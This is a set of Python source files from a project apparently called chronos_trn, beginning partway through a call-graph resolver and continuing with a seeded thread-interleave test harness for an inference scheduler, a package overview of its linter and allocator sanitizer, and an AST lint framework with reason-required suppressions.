                proj._methods_by_name.setdefault(mname, []).append(qual)
        return proj

    @classmethod
    def load(cls, paths: Iterable[str]) -> "Project":
        sources = {}
        for p in paths:
            try:
                with open(p, "r", encoding="utf-8") as f:
                    sources[p] = f.read()
            except OSError:
                continue
        return cls.from_sources(sources)

    # -- indexing ---------------------------------------------------------
    def _index_module(self, path: str, tree: ast.Module) -> None:
        mod = self.module_of[path]
        imap = self.imports.setdefault(mod, {})
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                for a in node.names:
                    imap[a.asname or a.name.split(".")[0]] = (
                        a.name if a.asname else a.name.split(".")[0]
                    )
            elif isinstance(node, ast.ImportFrom):
                base = self._resolve_from(mod, node)
                for a in node.names:
                    if a.name != "*":
                        imap[a.asname or a.name] = f"{base}.{a.name}"
        self._index_body(path, mod, tree.body, mod, depth=0)

    def _index_body(self, path: str, mod: str, body, prefix: str,
                    depth: int) -> None:
        """Register functions and classes in a scope — module level,
        class bodies, and (bounded) defs/classes nested in functions."""
        if depth > _CLOSURE_DEPTH:
            return
        for stmt in body:
            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
                qual = f"{prefix}.{stmt.name}"
                self._register_function(path, mod, None, qual, stmt)
                self._index_body(path, mod, stmt.body,
                                 f"{qual}.<locals>", depth + 1)
            elif isinstance(stmt, ast.ClassDef):
                self._register_class(path, mod, stmt, prefix, depth)

    @staticmethod
    def _resolve_from(mod: str, node: ast.ImportFrom) -> str:
        if not node.level:
            return node.module or ""
        parts = mod.split(".")
        # level=1: sibling of this module -> drop the module's own name
        base = parts[: len(parts) - node.level]
        if node.module:
            base = base + node.module.split(".")
        return ".".join(base)

    def _register_function(self, path, mod, cls_qual, qualname, node):
        args = node.args
        params = [a.arg for a in (
            list(args.posonlyargs) + list(args.args) + list(args.kwonlyargs)
        )]
        self.functions[qualname] = FuncInfo(
            qualname=qualname, module=mod, cls=cls_qual,
            name=node.name, path=path, node=node, lineno=node.lineno,
            params=params, is_method=cls_qual is not None,
        )

    def _register_class(self, path, mod, node: ast.ClassDef,
                        prefix: str, depth: int) -> None:
        qual = f"{prefix}.{node.name}"
        imap = self.imports.get(mod, {})
        bases = []
        for b in node.bases:
            resolved = self._resolve_symbol(_unparse(b), mod, imap)
            if resolved:
                bases.append(resolved)
        methods: Dict[str, str] = {}
        fields: List[str] = []
        for stmt in node.body:
            if isinstance(stmt, (ast.FunctionDef, ast.AsyncFunctionDef)):
                mq = f"{qual}.{stmt.name}"
                methods[stmt.name] = mq
                self._register_function(path, mod, qual, mq, stmt)
                self._index_body(path, mod, stmt.body,
                                 f"{mq}.<locals>", depth + 1)
            elif isinstance(stmt, ast.AnnAssign) and isinstance(
                stmt.target, ast.Name
            ):
                fields.append(stmt.target.id)
            elif isinstance(stmt, ast.ClassDef):
                self._register_class(path, mod, stmt, qual, depth + 1)
        self.classes[qual] = ClassInfo(
            qualname=qual, module=mod, name=node.name, path=path,
            bases=bases, methods=methods, attr_types={}, fields=fields,
        )
        self._class_nodes[id(node)] = qual

    def _resolve_symbol(self, dotted: str, mod: str,
                        imap: Dict[str, str]) -> Optional[str]:
        """Resolve a dotted name as written in ``mod`` to a project
        qualname (function/class/module prefix), or None."""
        if not dotted:
            return None
        head, _, rest = dotted.partition(".")
        target = imap.get(head)
        if target is None:
            # same-module symbol?
            cand = f"{mod}.{dotted}"
            if cand in self.functions or cand in self.classes:
                return cand
            return None
        full = f"{target}.{rest}" if rest else target
        return full

    def _index_attr_types(self, path: str, tree: ast.Module) -> None:
        """self.<attr> type map: ctor-call assignments, annotated params
        assigned through, AnnAssign, dataclass field annotations."""
        mod = self.module_of[path]
        imap = self.imports.get(mod, {})
        for stmt in ast.walk(tree):
            if not isinstance(stmt, ast.ClassDef):
                continue
            ci = self.classes.get(self._class_nodes.get(id(stmt), ""))
            if ci is None:
                continue
            for body_stmt in stmt.body:
                if isinstance(body_stmt, ast.AnnAssign) and isinstance(
                    body_stmt.target, ast.Name
                ):
                    t = self._annotation_class(body_stmt.annotation, mod, imap)
                    if t:
                        ci.attr_types[body_stmt.target.id] = t
            for fn in ast.walk(stmt):
                if not isinstance(fn, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    continue
                ann_of = {
                    a.arg: self._annotation_class(a.annotation, mod, imap)
                    for a in (list(fn.args.posonlyargs) + list(fn.args.args)
                              + list(fn.args.kwonlyargs))
                    if a.annotation is not None
                }
                for sub in ast.walk(fn):
                    tgt_val = None
                    if isinstance(sub, ast.Assign) and len(sub.targets) == 1:
                        tgt_val = (sub.targets[0], sub.value)
                    elif isinstance(sub, ast.AnnAssign) and sub.target is not None:
                        t = self._annotation_class(sub.annotation, mod, imap)
                        if (t and isinstance(sub.target, ast.Attribute)
                                and isinstance(sub.target.value, ast.Name)
                                and sub.target.value.id == "self"):
                            ci.attr_types.setdefault(sub.target.attr, t)
                        continue
                    if tgt_val is None:
                        continue
                    tgt, val = tgt_val
                    if not (isinstance(tgt, ast.Attribute)
                            and isinstance(tgt.value, ast.Name)
                            and tgt.value.id == "self"):
                        continue
                    t = self._value_class(val, ann_of, mod, imap)
                    if t:
                        ci.attr_types.setdefault(tgt.attr, t)

    def _value_class(self, val: ast.AST, ann_of: Dict[str, Optional[str]],
                     mod: str, imap: Dict[str, str]) -> Optional[str]:
        """Class of an assigned value: ctor call, annotated param, or the
        ``x = injected or Default(...)`` fallback idiom (first operand
        that resolves wins — both sides should agree on the type)."""
        if isinstance(val, ast.Call):
            return self._call_class(val, mod, imap)
        if isinstance(val, ast.Name):
            return ann_of.get(val.id)
        if isinstance(val, ast.BoolOp):
            for operand in val.values:
                t = self._value_class(operand, ann_of, mod, imap)
                if t:
                    return t
        return None

    def _call_class(self, call: ast.Call, mod: str,
                    imap: Dict[str, str]) -> Optional[str]:
        resolved = self._resolve_symbol(_unparse(call.func), mod, imap)
        if resolved in self.classes:
            return resolved
        return None

    def _annotation_class(self, ann: Optional[ast.AST], mod: str,
                          imap: Dict[str, str]) -> Optional[str]:
        if ann is None:
            return None
        text = _unparse(ann)
        # unwrap Optional[X] / "X" string annotations
        text = text.strip("\"'")
        if text.startswith("Optional[") and text.endswith("]"):
            text = text[len("Optional["):-1]
        resolved = self._resolve_symbol(text, mod, imap)
        if resolved in self.classes:
            return resolved
        # bare class name defined in another module, unique in project
        short = text.split(".")[-1]
        cands = [q for q in self.classes if q.rsplit(".", 1)[-1] == short]
        if len(cands) == 1:
            return cands[0]
        return None

    # -- lookups ----------------------------------------------------------
    def mro(self, cls_qual: str) -> List[str]:
        out, frontier = [], [cls_qual]
        for _ in range(_MRO_DEPTH):
            nxt = []
            for q in frontier:
                if q in out or q not in self.classes:
                    continue
                out.append(q)
                nxt.extend(self.classes[q].bases)
            if not nxt:
                break
            frontier = nxt
        return out

    def find_method(self, cls_qual: str, name: str) -> Optional[str]:
        for q in self.mro(cls_qual):
            m = self.classes[q].methods.get(name)
            if m:
                return m
        return None

    def methods_named(self, name: str) -> List[str]:
        return list(self._methods_by_name.get(name, ()))


def _module_name(path: str) -> str:
    """Dotted module name; anchored at the chronos_trn package when the
    path contains it, else the path stem (snippet fixtures)."""
    norm = os.path.normpath(path)
    parts = norm.split(os.sep)
    stem = parts[-1][:-3] if parts[-1].endswith(".py") else parts[-1]
    if "chronos_trn" in parts[:-1]:
        i = parts.index("chronos_trn")
        mod_parts = parts[i:-1] + ([] if stem == "__init__" else [stem])
        return ".".join(mod_parts)
    return stem


# ---------------------------------------------------------------------------
# local type inference (per function, resolve-time)
# ---------------------------------------------------------------------------
def local_types(project: Project, fn: FuncInfo) -> Dict[str, str]:
    """var -> class qualname for annotated params, ctor-call locals, and
    ``v = self.attr`` pulls through the attribute type map."""
    mod = fn.module
    imap = project.imports.get(mod, {})
    out: Dict[str, str] = {}
    args = fn.node.args
    for a in (list(args.posonlyargs) + list(args.args)
              + list(args.kwonlyargs)):
        t = project._annotation_class(a.annotation, mod, imap)
        if t:
            out[a.arg] = t
    cls_info = project.classes.get(fn.cls) if fn.cls else None
    for sub in ast.walk(fn.node):
        tgt = val = None
        if isinstance(sub, ast.Assign) and len(sub.targets) == 1:
            tgt, val = sub.targets[0], sub.value
        elif isinstance(sub, ast.AnnAssign) and sub.value is not None:
            tgt, val = sub.target, sub.value
            if isinstance(tgt, ast.Name):
                t = project._annotation_class(sub.annotation, mod, imap)
                if t:
                    out.setdefault(tgt.id, t)
        if not isinstance(tgt, ast.Name) or val is None:
            continue
        if isinstance(val, ast.Call):
            t = project._call_class(val, mod, imap)
            if t:
                out.setdefault(tgt.id, t)
        elif (cls_info is not None and isinstance(val, ast.Attribute)
              and isinstance(val.value, ast.Name) and val.value.id == "self"):
            t = cls_info.attr_types.get(val.attr)
            if t:
                out.setdefault(tgt.id, t)
    return out


# ---------------------------------------------------------------------------
# call resolution
# ---------------------------------------------------------------------------
def resolve_call(project: Project, fn: FuncInfo, call: ast.Call,
                 ltypes: Optional[Dict[str, str]] = None
                 ) -> List[Tuple[str, str]]:
    """Resolve one call in ``fn`` to ``[(callee_qualname, kind), ...]``.
    Empty when the callee is outside the project (builtins, stdlib,
    jax/numpy)."""
    if ltypes is None:
        ltypes = local_types(project, fn)
    f = call.func
    mod = fn.module
    imap = project.imports.get(mod, {})

    if isinstance(f, ast.Name):
        # closure defined in this function (or an enclosing one)?
        scope = fn.qualname
        while True:
            cand = f"{scope}.<locals>.{f.id}"
            if cand in project.functions:
                return [(cand, KIND_DIRECT)]
            if ".<locals>." not in scope:
                break
            scope = scope.rsplit(".<locals>.", 1)[0]
        resolved = project._resolve_symbol(f.id, mod, imap)
        if resolved in project.functions:
            return [(resolved, KIND_DIRECT)]
        if resolved in project.classes:
            init = project.find_method(resolved, "__init__")
            return [(init, KIND_CTOR)] if init else [(resolved, KIND_CTOR)]
        return []

    if not isinstance(f, ast.Attribute):
        return []
    mname = f.attr
    base = f.value

    # self.m() / cls-typed receivers
    recv_cls: Optional[str] = None
    if isinstance(base, ast.Name):
        if base.id == "self" and fn.cls:
            recv_cls = fn.cls
        elif base.id in ltypes:
            recv_cls = ltypes[base.id]
        else:
            # module alias: pkg.fn() / mod.Class()
            resolved = project._resolve_symbol(_unparse(f), mod, imap)
            if resolved in project.functions:
                return [(resolved, KIND_DIRECT)]
            if resolved in project.classes:
                init = project.find_method(resolved, "__init__")
                return [(init, KIND_CTOR)] if init else [(resolved, KIND_CTOR)]
    elif (isinstance(base, ast.Attribute)
          and isinstance(base.value, ast.Name) and base.value.id == "self"
          and fn.cls):
        # self.attr.m() through the attribute type map
        for q in project.mro(fn.cls):
            t = project.classes[q].attr_types.get(base.attr)
            if t:
                recv_cls = t
                break
    if recv_cls is None and isinstance(base, ast.Attribute):
        resolved = project._resolve_symbol(_unparse(f), mod, imap)
        if resolved in project.functions:
            return [(resolved, KIND_DIRECT)]

    if recv_cls is not None:
        m = project.find_method(recv_cls, mname)
        if m:
            return [(m, KIND_METHOD)]
        return []

    cands = project.methods_named(mname)
    if len(cands) == 1:
        return [(cands[0], KIND_UNIQUE)]
    if 1 < len(cands) <= _AMBIGUOUS_CAP:
        return [(c, KIND_AMBIGUOUS) for c in sorted(cands)]
    return []


class CallGraph:
    """All resolved call edges, indexed by caller and by call node."""

    def __init__(self, project: Project) -> None:
        self.project = project
        self.edges: List[CallEdge] = []
        self.by_caller: Dict[str, List[CallEdge]] = {}
        self.by_call_id: Dict[int, List[CallEdge]] = {}
        for qual in sorted(project.functions):
            fn = project.functions[qual]
            ltypes = local_types(project, fn)
            own_calls = self._own_calls(fn)
            for call in own_calls:
                for callee, kind in resolve_call(project, fn, call, ltypes):
                    edge = CallEdge(
                        caller=qual, callee=callee, path=fn.path,
                        line=call.lineno, kind=kind, call=call,
                    )
                    self.edges.append(edge)
                    self.by_caller.setdefault(qual, []).append(edge)
                    self.by_call_id.setdefault(id(call), []).append(edge)

    @staticmethod
    def _own_calls(fn: FuncInfo) -> List[ast.Call]:
        """Calls lexically in ``fn``, excluding nested defs (those are
        their own graph nodes)."""
        out: List[ast.Call] = []
        stack = list(fn.node.body)
        while stack:
            node = stack.pop()
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef,
                                 ast.ClassDef)):
                continue
            if isinstance(node, ast.Call):
                out.append(node)
            stack.extend(ast.iter_child_nodes(node))
        return out

    def callees(self, qual: str, kinds: frozenset = PRECISE_KINDS
                ) -> List[CallEdge]:
        return [e for e in self.by_caller.get(qual, ()) if e.kind in kinds]

    def resolutions(self, call: ast.Call) -> List[CallEdge]:
        return self.by_call_id.get(id(call), [])

    def dump(self) -> str:
        lines = []
        for e in sorted(self.edges,
                        key=lambda e: (e.path, e.line, e.caller, e.callee)):
            lines.append(f"{e.path}:{e.line}: {e.caller} -> {e.callee} "
                         f"[{e.kind}]")
        return "\n".join(lines)


def build(paths_or_sources) -> Tuple[Project, CallGraph]:
    """Convenience: build (Project, CallGraph) from an iterable of file
    paths or a {path: src} mapping."""
    if isinstance(paths_or_sources, dict):
        project = Project.from_sources(paths_or_sources)
    else:
        project = Project.load(paths_or_sources)
    return project, CallGraph(project)
