"""Deterministic scheduler interleave harness (CHRONOS_SANITIZE runtime
half, part b).

Shakes races between the decode loop, the watchdog supervisor, and the
rebuild/heal path by running many seeded schedules of the same tiny
workload with:

* seeded ``sys.setswitchinterval`` fuzzing — the GIL switch interval is
  the single biggest lever on Python thread interleavings; cycling it
  from 1 µs to 1 ms explores schedules a fixed interval never reaches;
* targeted preemption points at the heal-lock boundary —
  :class:`PreemptingLock` sleeps seeded sub-millisecond durations around
  ``acquire``/``release`` of ``Scheduler._heal_lock``, widening exactly
  the windows where worker-inline healing races the supervisor;
* seeded fault injection (``testing.faults.FaultyEngine``) so a third of
  the schedules exercise rebuild+replay and watchdog respawn, not just
  the happy path.

A schedule PASSES when every submitted request finishes (success or a
classified failure) within the deadline, the allocator invariants hold
after drain, and — when ``CHRONOS_SANITIZE=1`` — the sanitizer is
quiescent (no leak-on-finish).  A hung request is reported as a
deadlock with the thread roster.

Usage::

    python -m chronos_trn.analysis.interleave --seeds 100
    pytest -m analysis tests/test_analysis.py -k interleave

The harness is deterministic per seed up to OS thread scheduling: the
same seed always applies the same switch interval, fault plan, request
sizes, and preemption delays, so a failing seed is a strong repro
handle even though the OS may need a few runs to hit the same window.
"""
from __future__ import annotations

import argparse
import dataclasses
import random
import sys
import threading
import time
from typing import Callable, List, Optional, Sequence

# GIL switch intervals to cycle through (seconds); default is 5 ms —
# everything here is shorter, i.e. strictly more preemption-happy
SWITCH_INTERVALS = (1e-6, 5e-6, 5e-5, 5e-4, 1e-3)

# per-request completion deadline; generous because a seeded die fault
# costs a watchdog poll + rebuild + replay on CPU
REQUEST_TIMEOUT_S = 60.0


class PreemptingLock:
    """A lock proxy that sleeps seeded tiny durations around acquire and
    release — a targeted preemption point: the scheduler's heal lock is
    exactly where worker-inline healing, the watchdog's heal-after-death,
    and stop() contend."""

    def __init__(self, inner: threading.Lock, rng: random.Random,
                 scale_s: float = 2e-4):
        self._inner = inner
        self._rng = rng
        self._scale_s = scale_s

    def _pause(self) -> None:
        time.sleep(self._rng.random() * self._scale_s)

    def acquire(self, blocking: bool = True, timeout: float = -1) -> bool:
        self._pause()
        got = self._inner.acquire(blocking, timeout)
        if got:
            self._pause()  # hold the lock a beat: widen the critical window
        return got

    def release(self) -> None:
        self._inner.release()
        self._pause()

    def locked(self) -> bool:
        return self._inner.locked()

    def __enter__(self) -> "PreemptingLock":
        self.acquire()
        return self

    def __exit__(self, *exc) -> bool:
        self.release()
        return False


@dataclasses.dataclass
class ScheduleResult:
    seed: int
    ok: bool
    fault_plan: str
    switch_interval: float
    detail: str = ""
    completed: int = 0
    failed_classified: int = 0


def _fault_plan(rng: random.Random, seed: int) -> str:
    """A third of schedules run clean, a third poison a decode (inline
    heal path), a third kill the worker (watchdog heal path)."""
    k = rng.randint(1, 4)
    return ("", f"decode_poison@{k}", f"die@{k}")[seed % 3]


def _thread_roster() -> str:
    return ", ".join(sorted(t.name for t in threading.enumerate()))


def run_schedule(seed: int, make_sched: Callable, n_requests: int = 3
                 ) -> ScheduleResult:
    """Run ONE seeded schedule.  ``make_sched(fault_plan)`` must return a
    started+warmed ``(scheduler, engine)`` pair (tests inject their own
    builder so model params are built once per session)."""
    from chronos_trn.serving.scheduler import GenOptions

    rng = random.Random(seed)
    interval = rng.choice(SWITCH_INTERVALS)
    plan = _fault_plan(rng, seed)
    result = ScheduleResult(
        seed=seed, ok=False, fault_plan=plan or "none",
        switch_interval=interval,
    )

    prev_interval = sys.getswitchinterval()
    sys.setswitchinterval(interval)
    sched = None
    try:
        sched, eng = make_sched(plan)
        # targeted preemption at the heal-lock boundary
        sched._heal_lock = PreemptingLock(sched._heal_lock, rng)

        reqs = []
        submit_lock = threading.Lock()

        def submit_one(i: int) -> None:
            r = sched.submit(
                f"interleave seed={seed} req={i} " + "x" * rng.randint(0, 24),
                GenOptions(max_new_tokens=rng.randint(2, 6), seed=seed + i),
            )
            with submit_lock:
                reqs.append(r)

        # half the requests arrive from a second thread, racing the
        # worker's admission against the watchdog's heal window
        side = threading.Thread(
            target=lambda: [submit_one(i) for i in range(n_requests // 2)],
            name="interleave-submitter", daemon=True,
        )
        side.start()
        for i in range(n_requests // 2, n_requests):
            submit_one(i)
        side.join(timeout=REQUEST_TIMEOUT_S)
        if side.is_alive():
            result.detail = "submitter thread hung (deadlock on submit)"
            return result

        deadline = time.monotonic() + REQUEST_TIMEOUT_S
        for r in reqs:
            budget = max(deadline - time.monotonic(), 0.001)
            if not r.done.wait(budget):
                result.detail = (
                    f"request never finished within {REQUEST_TIMEOUT_S:.0f}s "
                    f"(deadlock/lost request); threads: {_thread_roster()}"
                )
                return result
            if r.error is None:
                result.completed += 1
            elif r.error_kind is not None:
                result.failed_classified += 1  # classified loss, not silent
            else:
                result.detail = f"unclassified failure: {r.error}"
                return result

        sched.stop()
        alloc = sched.engine.alloc
        alloc.check_invariants()
        quiesce = getattr(alloc, "assert_quiescent", None)
        if quiesce is not None:  # CHRONOS_SANITIZE=1 wrapped allocator
            quiesce()
        result.ok = True
        return result
    except AssertionError as e:
        result.detail = f"invariant violation: {e}"
        return result
    finally:
        sys.setswitchinterval(prev_interval)
        if sched is not None and not result.ok:
            try:
                sched.stop()
            except Exception:
                pass  # teardown of an already-failed schedule: the failure is the signal


def run_interleave(
    seeds: Sequence[int],
    make_sched: Optional[Callable] = None,
    n_requests: int = 3,
    progress: Optional[Callable[[str], None]] = None,
) -> List[ScheduleResult]:
    """Run every seed; returns per-schedule results (callers assert
    ``all(r.ok)``).  When ``make_sched`` is None a default tiny-model
    builder is constructed once (CLI path)."""
    if make_sched is None:
        make_sched = _default_builder()
    results = []
    with _quiet_injected_deaths():
        for seed in seeds:
            r = run_schedule(seed, make_sched, n_requests=n_requests)
            results.append(r)
            if progress is not None:
                status = "ok" if r.ok else f"FAIL ({r.detail})"
                progress(
                    f"seed={r.seed:4d} fault={r.fault_plan:16s} "
                    f"switch={r.switch_interval:.0e} "
                    f"done={r.completed}+{r.failed_classified} {status}"
                )
    return results


class _quiet_injected_deaths:
    """Injected worker deaths unwind chronos-sched BY DESIGN; keep their
    tracebacks out of harness output (mirrors the test fixture)."""

    def __enter__(self):
        self._orig = threading.excepthook

        def hook(hook_args):
            if getattr(hook_args.thread, "name", "") == "chronos-sched":
                return
            self._orig(hook_args)

        threading.excepthook = hook
        return self

    def __exit__(self, *exc):
        threading.excepthook = self._orig
        return False


def _default_builder() -> Callable:
    """Tiny-model scheduler factory for the CLI (params built once)."""
    import jax

    from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
    from chronos_trn.core import model
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.serving.scheduler import Scheduler
    from chronos_trn.testing.faults import EngineFaultPlan, FaultyEngine
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    mcfg = ModelConfig.tiny()
    ccfg = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
    ecfg = EngineConfig(
        max_batch_slots=4,
        prefill_buckets=(16, 32, 64),
        max_new_tokens=32,
        watchdog_interval_s=0.05,
    )
    params = model.init_params(mcfg, jax.random.PRNGKey(0))

    def make_sched(plan: str):
        eng = FaultyEngine(
            InferenceEngine(params, mcfg, ccfg, ecfg),
            EngineFaultPlan.parse(plan),
        )
        sched = Scheduler(eng, ByteTokenizer(vocab_size=mcfg.vocab_size), ecfg)
        sched.start()
        sched.warmup()
        eng.decode_calls = 0
        eng.prefill_calls = 0
        return sched, eng

    return make_sched


def main(argv: Optional[List[str]] = None) -> int:
    ap = argparse.ArgumentParser(
        description="seeded scheduler interleave harness",
    )
    ap.add_argument("--seeds", type=int, default=100,
                    help="number of seeded schedules (default 100)")
    ap.add_argument("--start", type=int, default=0,
                    help="first seed (repro a failing seed with "
                    "--start N --seeds 1)")
    ap.add_argument("--requests", type=int, default=3,
                    help="requests per schedule (default 3)")
    args = ap.parse_args(argv)

    results = run_interleave(
        range(args.start, args.start + args.seeds),
        n_requests=args.requests,
        progress=lambda line: print(line, flush=True),
    )
    bad = [r for r in results if not r.ok]
    print(
        f"\n{len(results) - len(bad)}/{len(results)} schedules ok; "
        f"{sum(r.completed for r in results)} requests completed, "
        f"{sum(r.failed_classified for r in results)} classified failures"
    )
    for r in bad:
        print(f"  FAIL seed={r.seed}: {r.detail}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
