"""Project-invariant analysis: chronoslint + the KV-ownership sanitizer.

Two halves, one discipline — turn the bug classes PRs 1–5 kept catching
by hand into machine-checked invariants:

* **Static** (:mod:`chronos_trn.analysis.lint`,
  :mod:`chronos_trn.analysis.rules`): ``chronoslint``, an AST rule
  framework with six project rules (CHR001–CHR006) grounded in real
  past bugs (docs/ANALYSIS.md catalogues them).  CLI:
  ``python scripts/chronoslint.py chronos_trn/``.
* **Runtime** (:mod:`chronos_trn.analysis.sanitize`,
  :mod:`chronos_trn.analysis.interleave`): ``CHRONOS_SANITIZE=1`` wraps
  the page allocators with a shadow-ownership sanitizer (double-free /
  use-after-free / leak-on-finish, attributed with allocating stacks),
  and a deterministic scheduler interleave harness shakes races between
  the decode loop, watchdog, and rebuild/heal path under seeded
  ``sys.setswitchinterval`` fuzzing.
"""
from chronos_trn.analysis.lint import Finding, run_lint  # noqa: F401
from chronos_trn.analysis.sanitize import (  # noqa: F401
    AllocatorSanitizer,
    SanitizerError,
    maybe_wrap_allocator,
    sanitize_enabled,
)
