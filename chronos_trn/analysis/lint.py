"""chronoslint — AST rule framework for project invariants.

A rule is an AST visitor that yields ``(line, message)`` pairs for one
file.  The framework handles file walking, inline suppressions, and
reporting; the rules themselves (CHR001–CHR009) live in
:mod:`chronos_trn.analysis.rules` and are registered via
:func:`register`.

Suppression syntax (on the finding line, the line directly above, or —
for one-line bodies like ``except: pass`` — the line directly below)::

    risky_call()  # chronoslint: disable=CHR001(replay must serialize under the heal lock)

The parenthesised reason is MANDATORY: a reasonless suppression does not
suppress — it is itself reported (CHR000), so the shipped tree cannot
accumulate unexplained waivers.
"""
from __future__ import annotations

import ast
import dataclasses
import os
import re
from typing import Dict, Iterable, Iterator, List, Optional, Tuple

_SUPPRESS_RE = re.compile(
    r"#\s*chronoslint:\s*disable=([A-Z]{3}\d{3})(?:\(([^)]*)\))?"
)


@dataclasses.dataclass
class Finding:
    """One rule violation at ``path:line``."""

    rule: str
    path: str
    line: int
    message: str
    suppressed: bool = False
    suppress_reason: str = ""

    def format(self) -> str:
        tail = f"  [suppressed: {self.suppress_reason}]" if self.suppressed else ""
        return f"{self.path}:{self.line}: {self.rule} {self.message}{tail}"


class Rule:
    """Base class: subclasses set ``code``/``title``/``historical_bug``
    and implement :meth:`check`."""

    code: str = "CHR000"
    title: str = ""
    # the real past bug this rule encodes (docs/ANALYSIS.md catalogue)
    historical_bug: str = ""

    def check(self, tree: ast.Module, src: str, path: str
              ) -> Iterator[Tuple[int, str]]:
        raise NotImplementedError


_REGISTRY: List[Rule] = []


def register(rule_cls):
    """Class decorator: add an instance to the global rule registry."""
    _REGISTRY.append(rule_cls())
    return rule_cls


def registered_rules() -> List[Rule]:
    # import for side effect: rules register themselves on first use
    from chronos_trn.analysis import rules as _rules  # noqa: F401

    return list(_REGISTRY)


# ---------------------------------------------------------------------------
# suppressions
# ---------------------------------------------------------------------------
def _suppressions(src: str) -> Dict[int, Dict[str, str]]:
    """line -> {rule_code: reason} for every suppression comment."""
    out: Dict[int, Dict[str, str]] = {}
    for i, line in enumerate(src.splitlines(), start=1):
        if "chronoslint" not in line:
            continue
        for m in _SUPPRESS_RE.finditer(line):
            out.setdefault(i, {})[m.group(1)] = (m.group(2) or "").strip()
    return out


def _apply_suppressions(
    findings: List[Finding], sup: Dict[int, Dict[str, str]], path: str
) -> List[Finding]:
    """Mark findings covered by a suppression on their line, the line
    above, or the line below (an ``except:`` finding anchors on the
    handler line but its suppression naturally sits on the one-line
    body); reasonless suppressions become CHR000 findings instead of
    suppressing anything."""
    for f in findings:
        for line in (f.line, f.line - 1, f.line + 1):
            reason = sup.get(line, {}).get(f.rule)
            if reason:  # empty reason intentionally does NOT suppress
                f.suppressed = True
                f.suppress_reason = reason
                break
    for line, rules in sup.items():
        for code, reason in rules.items():
            if not reason:
                findings.append(Finding(
                    rule="CHR000", path=path, line=line,
                    message=(f"suppression of {code} carries no reason — "
                             "write one: # chronoslint: "
                             f"disable={code}(why this is safe)"),
                ))
    return findings


# ---------------------------------------------------------------------------
# driver
# ---------------------------------------------------------------------------
def lint_file(path: str, rules: Optional[List[Rule]] = None) -> List[Finding]:
    with open(path, "r", encoding="utf-8") as f:
        src = f.read()
    return lint_source(src, path, rules)


def lint_source(src: str, path: str = "<string>",
                rules: Optional[List[Rule]] = None) -> List[Finding]:
    rules = rules if rules is not None else registered_rules()
    try:
        tree = ast.parse(src, filename=path)
    except SyntaxError as e:
        return [Finding(rule="CHR000", path=path, line=e.lineno or 0,
                        message=f"syntax error: {e.msg}")]
    findings: List[Finding] = []
    for rule in rules:
        for line, msg in rule.check(tree, src, path):
            findings.append(Finding(rule=rule.code, path=path,
                                    line=line, message=msg))
    findings = _apply_suppressions(findings, _suppressions(src), path)
    findings.sort(key=lambda f: (f.path, f.line, f.rule))
    return findings


def iter_python_files(paths: Iterable[str]) -> Iterator[str]:
    for p in paths:
        if os.path.isfile(p):
            if p.endswith(".py"):
                yield p
            continue
        for root, dirs, files in os.walk(p):
            dirs[:] = sorted(
                d for d in dirs
                if d not in ("__pycache__", ".git", ".pytest_cache")
            )
            for name in sorted(files):
                if name.endswith(".py"):
                    yield os.path.join(root, name)


def run_lint(paths: Iterable[str], select: Optional[Iterable[str]] = None
             ) -> List[Finding]:
    """Lint every .py under ``paths``; returns ALL findings (suppressed
    ones carry ``suppressed=True`` so callers can audit waivers)."""
    rules = registered_rules()
    if select is not None:
        want = set(select)
        rules = [r for r in rules if r.code in want]
    findings: List[Finding] = []
    for path in iter_python_files(paths):
        findings.extend(lint_file(path, rules))
    return findings
